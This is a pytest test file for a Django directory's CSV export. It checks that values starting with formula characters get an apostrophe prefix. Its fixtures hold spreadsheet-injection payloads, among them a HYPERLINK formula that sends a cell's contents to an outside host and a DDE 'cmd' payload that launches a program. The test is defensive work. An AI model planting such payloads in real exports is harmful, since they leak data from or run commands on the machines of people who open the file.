"""The directory's CSV export never hands a spreadsheet a formula typed into a profile."""

import csv
import io

import pytest
from django.urls import reverse

from home import roles
from tests.factories.network import OrganisationFactory, PersonProfileFactory, UserFactory

pytestmark = pytest.mark.django_db


def exported_rows(client):
    response = client.get(reverse("network:export_csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    return rows[0], rows[1:]


def test_the_directory_export_neutralises_formulas_in_every_column(client_as):
    PersonProfileFactory(
        display_name='=HYPERLINK("http://exemple.fr/vol?d="&A1;"Cliquez")',
        job_title="+cmd|' /C calc'!A0",
        organisation=OrganisationFactory(name="-2+3 Organisation piégée", departement_number=""),
        contact_email="@SUM(1+1)@exemple.fr",
        phone="\t=1+1",
        skills=["=1+2"],
        offers=["+aide"],
        requests=["-demande"],
    )
    PersonProfileFactory(
        user=UserFactory(username="retour@exemple.fr"),
        display_name="\r=1+1 Retour chariot",
        job_title="Chargée de mission",
    )
    headings, rows = exported_rows(client_as(roles.EDITORS))
    assert headings[0] == "Nom"  # headings are ours, left as they are
    by_name = {row[0]: dict(zip(headings, row, strict=True)) for row in rows}
    trapped = by_name["'" + '=HYPERLINK("http://exemple.fr/vol?d="&A1;"Cliquez")']
    assert trapped["Fonction"] == "'+cmd|' /C calc'!A0"
    assert trapped["Organisation"] == "'-2+3 Organisation piégée"
    assert trapped["Courriel"] == "'@SUM(1+1)@exemple.fr"
    assert trapped["Téléphone"] == "'\t=1+1"
    assert trapped["Compétences"] == "'=1+2"
    assert trapped["Je peux aider sur"] == "'+aide"
    assert trapped["Je cherche"] == "'-demande"
    carriage_return = by_name["'\r=1+1 Retour chariot"]
    assert carriage_return["Fonction"] == "Chargée de mission"  # ordinary text is untouched


def test_no_exported_cell_starts_with_a_formula_character(client_as):
    PersonProfileFactory(display_name="@Arobase en tête", job_title="-Tiret en tête")
    _headings, rows = exported_rows(client_as(roles.EDITORS))
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
